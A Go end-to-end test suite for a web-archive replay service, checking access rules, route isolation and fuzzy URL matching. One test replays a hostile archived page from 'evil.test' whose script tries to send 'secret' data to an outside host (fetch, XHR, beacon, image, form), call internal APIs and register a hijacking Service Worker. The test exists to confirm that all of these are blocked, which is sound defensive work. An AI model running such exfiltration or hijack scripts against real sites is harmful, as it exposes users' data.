package sidecar_test

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"image"
	"image/color"
	pngenc "image/png"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"github.com/wayside-archive/wayside/replay"
	"github.com/wayside-archive/wayside/sidecar"
)

// publicRules are the rules of TestE2EPublicAccessRules, in pywb's .aclj
// format as pywb writes it (reverse sorted): an excluded prefix (hidden:
// 404), a blocked URL (451 with a message), an embargoed host (captures
// newer than a year hidden, except in the reading room) and a path only
// the reading room sees.
const publicRules = `test,open)/withdrawn### - {"access": "block", "message": "withdrawn at the owner's request"}
test,open)/room - {"access": "allow", "user": "reading-room"}
test,open)/room - {"access": "exclude"}
test,open)/private - {"access": "exclude"}
test,embargo) - {"access": "allow", "user": "reading-room"}
test,embargo) - {"access": "exclude", "newer": {"years": 1}}
`

const publicConfig = `
data_dir: DIR/data
listen:
  tcp: 127.0.0.1:0
  token: ${WAYSIDE_TEST_TOKEN}
  cdx_token: ` + testCDXToken + `
ingest:
  dirs: [DIR/warcs]
  poll_interval: 50ms
access:
  rules: DIR/rules
public:
  listen: 127.0.0.1:0
  access_points:
    - name: reading-room
      listen: 127.0.0.1:0
`

type pubCapture struct {
	url  string
	date time.Time
	body string
}

func (c pubCapture) ts() string { return c.date.UTC().Format("20060102150405") }

// expectAccess is what the rules must give a capture at an access point.
func expectAccess(c pubCapture, point string) replay.Access {
	recent := time.Since(c.date) < 300*24*time.Hour
	switch {
	case strings.HasPrefix(c.url, "http://open.test/private"):
		return replay.Exclude
	case c.url == "http://open.test/withdrawn":
		return replay.Block
	case strings.HasPrefix(c.url, "http://open.test/room"):
		if point == "reading-room" {
			return replay.Allow
		}
		return replay.Exclude
	case strings.HasPrefix(c.url, "http://embargo.test/") && recent:
		if point == "reading-room" {
			return replay.Allow
		}
		return replay.Exclude
	}
	return replay.Allow
}

func get(t *testing.T, u string, hdr map[string]string) (*http.Response, string) {
	t.Helper()
	resp := httpGetRaw(t, u, hdr)
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	return resp, string(b)
}

// TestE2EPublicAccessRules serves a collection through `wayside serve`
// with access rules and two public fronts (public, reading room) and, for
// every capture and every front, asks every route that reveals captures
// (CDX, TimeMap, TimeGate, rewritten and raw replay, the API origin's
// memento redirect) and checks it hides, refuses or serves exactly what
// the rules say; then that the public fronts serve no other route, that a
// rule added while serving takes effect (and its removal), and that 300
// refused connections do not hold the listeners.
func TestE2EPublicAccessRules(t *testing.T) {
	dir := t.TempDir()
	warcs := filepath.Join(dir, "warcs")
	rulesDir := filepath.Join(dir, "rules")
	os.MkdirAll(warcs, 0o755)
	os.MkdirAll(rulesDir, 0o755)
	if err := os.WriteFile(filepath.Join(rulesDir, "collection.aclj"), []byte(publicRules), 0o644); err != nil {
		t.Fatal(err)
	}
	old := time.Date(2020, 5, 1, 10, 0, 0, 0, time.UTC)
	recent := time.Now().UTC().Add(-2 * time.Hour).Truncate(time.Second)
	var caps []pubCapture
	for _, u := range []string{"http://open.test/page", "http://open.test/private/a", "http://open.test/private/b",
		"http://open.test/withdrawn", "http://open.test/withdrawn/child", "http://embargo.test/news", "http://open.test/room/doc"} {
		for i, d := range []time.Time{old, recent} {
			caps = append(caps, pubCapture{url: u, date: d, body: fmt.Sprintf("<html><body>capture %d of %s</body></html>", i, u)})
		}
	}
	var warc []byte
	for i, c := range caps {
		warc = append(warc, warcRec{Type: "response", URI: c.url, Date: c.date, ID: recID(100 + i), Body: []byte(c.body)}.bytes()...)
	}
	if err := os.WriteFile(filepath.Join(warcs, "pub.warc.gz"), warc, 0o644); err != nil {
		t.Fatal(err)
	}
	d := startDaemon(t, dir, publicConfig)
	var st sidecar.AccessState
	if err := d.client.GetJSON(context.Background(), "/v1/access", &st); err != nil {
		t.Fatal(err)
	}
	if len(st.Fronts) != 2 || len(st.Lines) != 6 {
		t.Fatalf("/v1/access: %+v", st)
	}
	fronts := map[string]sidecar.PublicFront{}
	for _, f := range st.Fronts {
		fronts[f.AccessPoint] = f
	}
	pub, room := fronts["public"], fronts["reading-room"]
	if pub.URL == "" || room.URL == "" || pub.ContentURL == pub.URL {
		t.Fatalf("fronts %+v", st.Fronts)
	}
	// The staff view (the socket) holds every capture once ingested.
	waitFor(t, "ingest", func() bool {
		resp := httpGetRaw(t, d.tcp+"/t/"+testCDXToken+"/default/cdx?url=*.test&output=text&fl=timestamp", nil)
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		n := 0
		for _, c := range caps {
			if expectAccess(c, "staff") != replay.Exclude {
				n++
			}
		}
		return strings.Count(string(b), "\n") == n
	})

	for _, f := range []sidecar.PublicFront{pub, room} {
		for _, c := range caps {
			want := expectAccess(c, f.AccessPoint)
			visible := want != replay.Exclude
			anyVisible := false
			for _, o := range caps {
				if o.url == c.url && expectAccess(o, f.AccessPoint) != replay.Exclude {
					anyVisible = true
				}
			}
			name := fmt.Sprintf("%s %s %s", f.AccessPoint, c.url, c.ts())
			uriM := f.ContentURL + "/default/" + c.ts() + "/" + c.url

			// CDX API.
			resp, body := get(t, f.URL+"/default/cdx?url="+url.QueryEscape(c.url)+"&output=text&fl=timestamp", nil)
			if resp.StatusCode != 200 || strings.Contains(body, c.ts()) != visible {
				t.Errorf("%s: cdx %d %q, want listed=%v", name, resp.StatusCode, body, visible)
			}
			if resp.Header.Get("Access-Control-Allow-Origin") != "*" || resp.Header.Get("Cache-Control") != "no-cache" {
				t.Errorf("%s: cdx without CORS or Cache-Control: no-cache: %v", name, resp.Header)
			}
			// TimeMap.
			resp, body = get(t, f.URL+"/default/timemap/link/"+c.url, nil)
			switch {
			case !anyVisible && resp.StatusCode != 404:
				t.Errorf("%s: timemap %d, want 404 (nothing visible)", name, resp.StatusCode)
			case anyVisible && (resp.StatusCode != 200 || strings.Contains(body, "<"+uriM+">") != visible):
				t.Errorf("%s: timemap %d, want memento listed=%v:\n%s", name, resp.StatusCode, visible, body)
			}
			// TimeGate at the capture's own time.
			resp, _ = get(t, f.URL+"/default/"+c.url, map[string]string{"Accept-Datetime": c.date.Format(http.TimeFormat)})
			loc := resp.Header.Get("Location")
			switch {
			case !anyVisible && resp.StatusCode != 404:
				t.Errorf("%s: timegate %d (Location %s), want 404", name, resp.StatusCode, loc)
			case anyVisible && resp.StatusCode != 302:
				t.Errorf("%s: timegate %d, want 302", name, resp.StatusCode)
			case anyVisible && (loc == uriM) != visible:
				t.Errorf("%s: timegate to %s, want this capture=%v", name, loc, visible)
			case anyVisible && !strings.HasPrefix(loc, f.ContentURL+"/"):
				t.Errorf("%s: timegate to %s, not on the content origin %s", name, loc, f.ContentURL)
			}
			// A memento asked of the API origin goes to the content origin.
			resp, _ = get(t, f.URL+"/default/"+c.ts()+"/"+c.url, nil)
			if resp.StatusCode != 302 || resp.Header.Get("Location") != uriM {
				t.Errorf("%s: memento on the API origin: %d to %q, want 302 to %s", name, resp.StatusCode, resp.Header.Get("Location"), uriM)
			}
			// Rewritten and raw replay on the content origin.
			for _, mod := range []string{"", "id_"} {
				resp, body = get(t, f.ContentURL+"/default/"+c.ts()+mod+"/"+c.url, nil)
				mname := name + " " + mod
				switch want {
				case replay.Allow:
					if resp.StatusCode != 200 || !strings.Contains(body, c.body[12:30]) {
						t.Errorf("%s: replay %d %q, want the capture", mname, resp.StatusCode, body)
					}
					csp := resp.Header.Get("Content-Security-Policy")
					for _, dir := range []string{"form-action", "frame-ancestors", "worker-src 'none'"} {
						if !strings.Contains(csp, dir) {
							t.Errorf("%s: CSP %q lacks %s", mname, csp, dir)
						}
					}
				case replay.Block:
					if resp.StatusCode != 451 || !strings.Contains(body, "withdrawn at the owner's request") || strings.Contains(body, "capture ") {
						t.Errorf("%s: replay %d %q, want 451 with the rule's message", mname, resp.StatusCode, body)
					}
				case replay.Exclude:
					if resp.StatusCode == 200 || strings.Contains(body, c.body[12:30]) ||
						resp.StatusCode == 302 && strings.Contains(resp.Header.Get("Location"), c.ts()) {
						t.Errorf("%s: replay %d (Location %q), want it hidden", mname, resp.StatusCode, resp.Header.Get("Location"))
					}
				}
			}
		}
		// One CDX query over every host lists exactly the visible captures.
		n := 0
		for _, c := range caps {
			if expectAccess(c, f.AccessPoint) != replay.Exclude {
				n++
			}
		}
		_, body := get(t, f.URL+"/default/cdx?url=*.test&output=text&fl=timestamp", nil)
		if got := strings.Count(body, "\n"); got != n {
			t.Errorf("%s: domain CDX lists %d captures, want %d", f.AccessPoint, got, n)
		}
	}

	t.Run("no other routes", func(t *testing.T) {
		for _, base := range []string{pub.URL, pub.ContentURL, room.URL, room.ContentURL} {
			for _, p := range []string{"/metrics", "/v1/status", "/v1/access", "/v1/access/rules", "/v1/dedup/lookup", "/cdx?url=http://open.test/page",
				"/v1/ingest", "/mementomap/lookup?url=http://open.test/", "/t/" + testCDXToken + "/default/cdx?url=http://open.test/page", "/hex/cdx"} {
				for _, m := range []string{"GET", "POST", "DELETE"} {
					req, _ := http.NewRequest(m, base+p, strings.NewReader(""))
					req.Header.Set("Authorization", "Bearer "+testToken)
					resp, err := http.DefaultClient.Do(req)
					if err != nil {
						t.Fatal(err)
					}
					io.Copy(io.Discard, resp.Body)
					resp.Body.Close()
					if resp.StatusCode < 400 {
						t.Errorf("%s %s%s: %d, want a refusal", m, base, p, resp.StatusCode)
					}
				}
			}
		}
		// The content origin serves mementos only.
		for _, p := range []string{"/default/cdx?url=http://open.test/page", "/default/timemap/link/http://open.test/page", "/default/http://open.test/page", "/mementomap", "/healthz"} {
			if resp, _ := get(t, pub.ContentURL+p, nil); resp.StatusCode != 404 {
				t.Errorf("content origin %s: %d, want 404", p, resp.StatusCode)
			}
		}
		// A Service Worker script is never served.
		resp, _ := get(t, pub.ContentURL+"/default/"+caps[0].ts()+"/"+caps[0].url, map[string]string{"Service-Worker": "script"})
		if resp.StatusCode != 403 {
			t.Errorf("Service-Worker request: %d, want 403", resp.StatusCode)
		}
	})

	t.Run("rule change while serving", func(t *testing.T) {
		page := "http://open.test/page"
		listed := func() bool {
			_, body := get(t, pub.URL+"/default/cdx?url="+url.QueryEscape(page)+"&output=text&fl=timestamp", nil)
			return strings.Count(body, "\n") == 2
		}
		code, out, errb := runBinary(t, "access", "add", "--rules", rulesDir, "--match", "exact", page, "exclude")
		if code != 0 {
			t.Fatalf("access add: %d %s %s", code, out, errb)
		}
		waitFor(t, "the new rule to hide "+page, func() bool { return !listed() })
		if resp, _ := get(t, pub.URL+"/default/"+page, nil); resp.StatusCode != 404 {
			t.Errorf("timegate after exclude: %d", resp.StatusCode)
		}
		code, out, _ = runBinary(t, "access", "check", "--rules", rulesDir, page)
		if code != 0 || !strings.HasPrefix(out, "exclude\ttest,open)/page###") {
			t.Errorf("access check: %d %q", code, out)
		}
		code, out, errb = runBinary(t, "access", "remove", "--rules", rulesDir, "--match", "exact", page)
		if code != 0 {
			t.Fatalf("access remove: %d %s %s", code, out, errb)
		}
		waitFor(t, "the removed rule to show "+page+" again", listed)
		if code, _, _ := runBinary(t, "access", "remove", "--rules", rulesDir, "--match", "exact", page); code != 1 {
			t.Errorf("removing a rule that is not there: exit %d, want 1", code)
		}
		// The daemon's route: a rule added and removed over the socket.
		child := "http://open.test/withdrawn/child"
		childM := pub.ContentURL + "/default/" + old.Format("20060102150405") + "id_/" + child
		status := func() int { resp, _ := get(t, childM, nil); return resp.StatusCode }
		if code := status(); code != 200 {
			t.Fatalf("%s: %d before the rule", childM, code)
		}
		call := func(method, body string) (int, string) {
			tr := &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
				return (&net.Dialer{}).DialContext(ctx, "unix", d.sock)
			}}
			defer tr.CloseIdleConnections()
			req, _ := http.NewRequest(method, "http://wayside/v1/access/rules", strings.NewReader(body))
			req.Header.Set("Content-Type", "application/json")
			resp, err := (&http.Client{Transport: tr, Timeout: 10 * time.Second}).Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			return resp.StatusCode, string(b)
		}
		if code, body := call("POST", `{"url": "`+child+`", "match": "exact", "access": "block", "message": "under review"}`); code != 200 || !strings.Contains(body, "test,open)/withdrawn/child###") {
			t.Fatalf("POST /v1/access/rules: %d %s", code, body)
		}
		// The daemon reloads before it answers: the next request sees it.
		if code := status(); code != 451 {
			t.Errorf("after POST /v1/access/rules: %d, want 451", code)
		}
		if code, body := call("POST", `{"url": "`+child+`", "access": "maybe"}`); code != 400 {
			t.Errorf("a bad rule: %d %s", code, body)
		}
		if code, body := call("DELETE", `{"url": "`+child+`", "match": "exact"}`); code != 200 || !strings.Contains(body, `"removed":1`) {
			t.Fatalf("DELETE /v1/access/rules: %d %s", code, body)
		}
		if code := status(); code != 200 {
			t.Errorf("after DELETE /v1/access/rules: %d, want 200", code)
		}
		if code, _ := call("DELETE", `{"url": "`+child+`", "match": "exact"}`); code != 404 {
			t.Errorf("deleting a rule that is not there: %d, want 404", code)
		}
		// A file that does not parse keeps the rules in force.
		bad := filepath.Join(rulesDir, "zz-bad.aclj")
		os.WriteFile(bad, []byte("test,open)/page - {\"access\": \"nonsense\"}\n"), 0o644)
		waitFor(t, "the bad file to be reported", func() bool {
			var st sidecar.AccessState
			return d.client.GetJSON(context.Background(), "/v1/access", &st) == nil && strings.Contains(st.Error, "zz-bad.aclj line 1")
		})
		if !listed() {
			t.Error("a bad rules file changed the rules in force")
		}
		os.Remove(bad)
	})

	t.Run("refused connections are closed", func(t *testing.T) {
		// 300 clients that send a request the listener refuses, with a
		// body they never finish: each gets its answer and a closed
		// connection, and /healthz still answers.
		for _, target := range []struct{ base, req string }{
			{pub.URL, "POST /default/cdx HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\nabc"},
			{d.tcp, "POST /v1/dedup/lookup HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\nabc"},
			{d.tcp, "GET /v1/status HTTP/1.1\r\nHost: x\r\n\r\n"},
		} {
			addr := strings.TrimPrefix(target.base, "http://")
			var conns []net.Conn
			for range 300 {
				c, err := net.Dial("tcp", addr)
				if err != nil {
					t.Fatal(err)
				}
				conns = append(conns, c)
				c.Write([]byte(target.req))
			}
			for _, c := range conns {
				c.SetReadDeadline(time.Now().Add(2 * time.Minute))
				resp, err := http.ReadResponse(bufio.NewReader(c), nil)
				if err != nil {
					t.Fatalf("%s: %v", target.req, err)
				}
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				if resp.StatusCode < 400 || !resp.Close {
					t.Fatalf("%s: %d (close %v), want a refusal closing the connection", target.req, resp.StatusCode, resp.Close)
				}
				if _, err := c.Read(make([]byte, 1)); err != io.EOF {
					t.Fatalf("%s: the connection was not closed: %v", target.req, err)
				}
				c.Close()
			}
			resp, _ := get(t, target.base+"/healthz", nil)
			if resp.StatusCode != 200 {
				t.Errorf("healthz after refusals: %d", resp.StatusCode)
			}
		}
	})
}

// TestE2EPublicChromiumSecurity replays, through the public front in
// headless Chromium, an archived page whose script tries to reach the
// daemon's API and the public API (fetch, XHR), an outside host (a second
// loopback server: fetch, XHR, beacon, image, form post), to register a
// Service Worker and to read the CDX API from its own origin, and whose
// archived response sets a cookie: nothing reaches the outside host or an
// API, no Service Worker is registered and no cookie is set.
func TestE2EPublicChromiumSecurity(t *testing.T) {
	exe := chromium(t)
	out := newOutsideHost(t, "<html><title>outside</title></html>", true)
	dir, warcs := archiveDirs(t)
	d := startDaemon(t, dir, publicConfig)
	var st sidecar.AccessState
	if err := d.client.GetJSON(context.Background(), "/v1/access", &st); err != nil {
		t.Fatal(err)
	}
	pub := st.Fronts[0]
	when := time.Date(2021, 3, 4, 5, 6, 7, 0, time.UTC)
	ts := when.Format("20060102150405")
	page := `<html><head><title>archived</title></head><body>
<form id="f1" method="POST" action="` + out.URL + `/collect?form"><input name="x" value="secret"></form>
<form id="f2" method="POST" action="` + d.tcp + `/v1/access/rules"><input name="x" value="1"></form>
<script>
const results = {};
function submitForms() {
  try { document.getElementById("f1").submit(); } catch (e) {}
  try { document.getElementById("f2").submit(); } catch (e) {}
}
async function attempt(name, fn) {
  try { results[name] = "ok:" + await fn(); } catch (e) { results[name] = "err:" + e; }
}
function xhr(u) {
  return new Promise((res, rej) => { const x = new XMLHttpRequest(); x.open("GET", u); x.onload = () => res(x.status); x.onerror = () => rej("error"); x.send(); });
}
(async () => {
  const OUT = "` + out.URL + `", API = "` + d.tcp + `", PUB = "` + pub.URL + `";
  await attempt("fetch_daemon", async () => (await fetch(API + "/v1/status")).status);
  await attempt("fetch_public_api", async () => (await fetch(PUB + "/default/cdx?url=*.test")).status);
  await attempt("xhr_daemon", () => xhr(API + "/metrics"));
  await attempt("fetch_outside", async () => (await fetch(OUT + "/collect?fetch", {method: "POST", body: "secret"})).status);
  await attempt("xhr_outside", () => xhr(OUT + "/collect?xhr"));
  await attempt("beacon", async () => navigator.sendBeacon(OUT + "/collect?beacon", "secret"));
  await attempt("img", () => new Promise((res, rej) => { const i = new Image(); i.onload = () => res("loaded"); i.onerror = () => rej("error"); i.src = OUT + "/collect?img"; }));
  await attempt("sw", async () => (await navigator.serviceWorker.register("/default/` + ts + `id_/http://evil.test/sw.js")).scope);
  await attempt("cdx_same_origin", async () => (await fetch("/default/cdx?url=*.test")).status);
  results.regs = (await navigator.serviceWorker.getRegistrations()).length;
  window.results = results;
  document.title = "done";
})();
</script></body></html>`
	recs := []warcRec{
		{Type: "response", URI: "http://evil.test/page", Date: when, ID: recID(1), Body: []byte(page),
			Headers: []string{"Set-Cookie: session=archived; Path=/", "Strict-Transport-Security: max-age=31536000", "Clear-Site-Data: \"cookies\""}},
		{Type: "response", URI: "http://evil.test/sw.js", Date: when, ID: recID(2), MIME: "application/javascript",
			Body: []byte(`self.addEventListener("fetch", e => e.respondWith(new Response("hijacked")));`)},
	}
	var warc []byte
	for _, r := range recs {
		warc = append(warc, r.bytes()...)
	}
	if err := os.WriteFile(filepath.Join(warcs, "evil.warc.gz"), warc, 0o644); err != nil {
		t.Fatal(err)
	}
	urim := pub.ContentURL + "/default/" + ts + "/http://evil.test/page"
	waitFor(t, "ingest", func() bool {
		resp, _ := get(t, urim, nil)
		return resp.StatusCode == 200
	})

	tctx := browser(t, exe)
	// The content origin sends a browser's top-level navigation to the
	// public API origin, which frames the memento.
	if err := chromedp.Do(tctx, chromedp.Navigate(urim)); err != nil {
		t.Fatal(err)
	}
	top, _ := frameURLs(t, tctx)
	if want := pub.URL + "/default/" + ts + "/http://evil.test/page"; top != want {
		t.Errorf("top-level page %s, want the frame page %s", top, want)
	}
	fr := replayFrame(t, tctx)
	results, err := chromedp.Run(tctx, chromedp.Poll[map[string]any](`document.title === "done" && window.results`, chromedp.WithPollingInFrame(fr)))
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("results: %v", results)
	for _, k := range []string{"fetch_daemon", "fetch_public_api", "xhr_daemon", "fetch_outside", "xhr_outside", "img", "sw"} {
		v, _ := results[k].(string)
		if !strings.HasPrefix(v, "err:") && !strings.HasPrefix(v, "ok:4") {
			t.Errorf("%s: %q, want it refused", k, v)
		}
	}
	if v := results["cdx_same_origin"]; v != "ok:404" {
		t.Errorf("the content origin answered a CDX query: %v", v)
	}
	if regs := results["regs"]; regs != float64(0) {
		t.Errorf("service worker registrations: %v", regs)
	}
	cookies, err := chromedp.Call(tctx, network.GetCookies, network.GetCookiesParams{URLs: []string{urim, pub.URL, d.tcp}})
	if err != nil {
		t.Fatal(err)
	}
	if len(cookies.Cookies) != 0 {
		t.Errorf("cookies reached the browser: %v", cookies.Cookies)
	}
	// The forms last (a submission that went through would leave the page).
	if _, err := chromedp.Run(tctx, chromedp.Poll[bool](`(submitForms(), true)`, chromedp.WithPollingInFrame(fr))); err != nil {
		t.Fatal(err)
	}
	// A form's action is rewritten into the archive: the post goes to the
	// content origin (which refuses it), never elsewhere. Wait until the
	// frame has left the page for it.
	var formURL string
	waitFor(t, "the form post to be answered", func() bool {
		_, kids := frameURLs(t, tctx)
		if len(kids) == 1 {
			formURL = kids[0]
		}
		return formURL != "" && formURL != urim
	})
	if !strings.HasPrefix(formURL, pub.ContentURL+"/") {
		t.Errorf("the form post left the content origin: %s", formURL)
	}
	// Leave the page (any beacon is sent by then), ending at the outside
	// server: it must have seen that navigation only.
	if err := chromedp.Do(tctx, chromedp.Navigate(out.URL+"/end")); err != nil {
		t.Fatal(err)
	}
	if got := out.requests("GET /end", "GET /favicon.ico"); len(got) > 0 {
		t.Errorf("the archived page reached the outside host: %v", got)
	}
}

// TestE2EFuzzyReplay replays in headless Chromium, through the public
// front, an archived page whose script loads a script, an image and JSON
// with a cache-busting "?_=<now>" no capture has: fuzzy matching finds the
// captures (taken with another "_=" value) and the page replays complete;
// the TimeGate says which capture it fell back to, and an alias
// (OutbackCDX's @alias) answers for a URL without captures.
func TestE2EFuzzyReplay(t *testing.T) {
	exe := chromium(t)
	dir := t.TempDir()
	warcs := filepath.Join(dir, "warcs")
	os.MkdirAll(warcs, 0o755)
	os.MkdirAll(filepath.Join(dir, "rules"), 0o755)
	os.WriteFile(filepath.Join(dir, "aliases.txt"), []byte("@alias http://fuzzy.test/old.html http://fuzzy.test/\n"), 0o644)
	var png bytes.Buffer
	img := image.NewRGBA(image.Rect(0, 0, 3, 2))
	img.Set(1, 1, color.RGBA{200, 0, 0, 255})
	if err := pngenc.Encode(&png, img); err != nil {
		t.Fatal(err)
	}
	when := time.Date(2022, 6, 7, 8, 9, 10, 0, time.UTC)
	page := `<html><head><title>fuzzy</title></head><body><script>
const bust = "_=" + Date.now();
const s = document.createElement("script"); s.src = "/app.js?" + bust; document.head.appendChild(s);
const i = new Image(); i.id = "logo"; i.src = "/logo.png?" + bust; document.body.appendChild(i);
fetch("/data.json?id=7&" + bust).then(r => r.json()).then(j => { window.data = j.v; });
</script></body></html>`
	recs := []warcRec{
		{Type: "response", URI: "http://fuzzy.test/", Date: when, ID: recID(1), Body: []byte(page)},
		{Type: "response", URI: "http://fuzzy.test/app.js?_=1654589350000", Date: when.Add(time.Second), ID: recID(2), MIME: "application/javascript", Body: []byte(`window.appLoaded = true;`)},
		{Type: "response", URI: "http://fuzzy.test/logo.png?_=1654589350001", Date: when.Add(time.Second), ID: recID(3), MIME: "image/png", Body: png.Bytes()},
		{Type: "response", URI: "http://fuzzy.test/data.json?id=7&_=1654589350002", Date: when.Add(2 * time.Second), ID: recID(4), MIME: "application/json", Body: []byte(`{"v": 42}`)},
		{Type: "response", URI: "http://fuzzy.test/data.json?id=8&_=1654589350002", Date: when.Add(2 * time.Second), ID: recID(5), MIME: "application/json", Body: []byte(`{"v": 8}`)},
	}
	var warc []byte
	for _, r := range recs {
		warc = append(warc, r.bytes()...)
	}
	os.WriteFile(filepath.Join(warcs, "fuzzy.warc.gz"), warc, 0o644)
	d := startDaemon(t, dir, strings.Replace(publicConfig, "  rules: DIR/rules\n", "  rules: DIR/rules\n  aliases: DIR/aliases.txt\n", 1))
	var st sidecar.AccessState
	if err := d.client.GetJSON(context.Background(), "/v1/access", &st); err != nil {
		t.Fatal(err)
	}
	pub := st.Fronts[0]
	ts := when.Format("20060102150405")
	urim := pub.ContentURL + "/default/" + ts + "/http://fuzzy.test/"
	waitFor(t, "ingest", func() bool {
		_, body := get(t, pub.URL+"/default/cdx?url=fuzzy.test/*&output=text&fl=timestamp", nil)
		return strings.Count(body, "\n") == len(recs)
	})

	// The TimeGate names the capture it fell back to.
	resp, _ := get(t, pub.URL+"/default/http://fuzzy.test/data.json?id=7&_=999", nil)
	if resp.StatusCode != 302 || !strings.Contains(resp.Header.Get("X-Archive-Fallback"), `fuzzy; uri="http://fuzzy.test/data.json?id=7&_=1654589350002"`) ||
		!strings.Contains(resp.Header.Get("Location"), "/data.json?id=7&_=1654589350002") {
		t.Errorf("fuzzy TimeGate: %d, fallback %q, Location %q", resp.StatusCode, resp.Header.Get("X-Archive-Fallback"), resp.Header.Get("Location"))
	}
	// Another query that is not a cache buster is not matched.
	if resp, _ := get(t, pub.URL+"/default/http://fuzzy.test/data.json?id=9&_=999", nil); resp.StatusCode != 404 {
		t.Errorf("id=9: %d, want 404 (no fuzzy match across real parameters)", resp.StatusCode)
	}
	resp, _ = get(t, pub.URL+"/default/http://fuzzy.test/old.html", nil)
	if resp.StatusCode != 302 || !strings.HasPrefix(resp.Header.Get("X-Archive-Fallback"), "alias;") || !strings.HasSuffix(resp.Header.Get("Location"), "/"+ts+"/http://fuzzy.test/") {
		t.Errorf("alias TimeGate: %d, fallback %q, Location %q", resp.StatusCode, resp.Header.Get("X-Archive-Fallback"), resp.Header.Get("Location"))
	}

	tctx := browser(t, exe)
	if err := chromedp.Do(tctx, chromedp.Navigate(urim)); err != nil {
		t.Fatal(err)
	}
	fr := replayFrame(t, tctx)
	ok, err := chromedp.Run(tctx, chromedp.Poll[bool](`window.appLoaded === true && window.data === 42 && document.getElementById("logo").complete && document.getElementById("logo").naturalWidth === 3`,
		chromedp.WithPollingInFrame(fr)))
	if err != nil || !ok {
		t.Fatalf("the page did not replay complete in its frame: %v", err)
	}
}
